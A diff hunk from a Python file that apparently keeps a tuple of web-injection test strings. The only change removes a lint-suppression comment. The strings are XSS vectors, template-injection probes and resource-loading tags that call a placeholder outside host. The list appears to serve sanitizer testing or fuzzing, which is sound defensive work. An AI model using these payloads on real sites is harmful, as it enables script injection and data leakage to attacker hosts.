@@ -22,7 +22,7 @@ STRINGS = (
     f'\'><svg onload="{RUN}">',
     f"</title></style></textarea></noscript><style>@import url(http://{HOST}/s);*{{background:url(http://{HOST}/b)}}</style>",
     f'<iframe srcdoc="<script>{RUN}</script>"></iframe><iframe src="javascript:{RUN}"></iframe>',
-    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">a</a><math><mtext><mglyph><style><img src=x onerror="{RUN}">',  # noqa: E501
+    f'<a href="javascript:{RUN}" autofocus onfocus="{RUN}">a</a><math><mtext><mglyph><style><img src=x onerror="{RUN}">',
     f'<link rel=stylesheet href=http://{HOST}/l><base href=http://{HOST}/><meta http-equiv=refresh content="0;http://{HOST}/m">',
     f"{{{{ 7 * 7 }}}}{{% for c in ''.__class__.__mro__ %}}{{{{ c }}}}{{% endfor %}}{{# c #}}${{{RUN}}}`{RUN}`",
     f"';{RUN};'\";{RUN};\"\\';{RUN}//--></script>]]><!--",
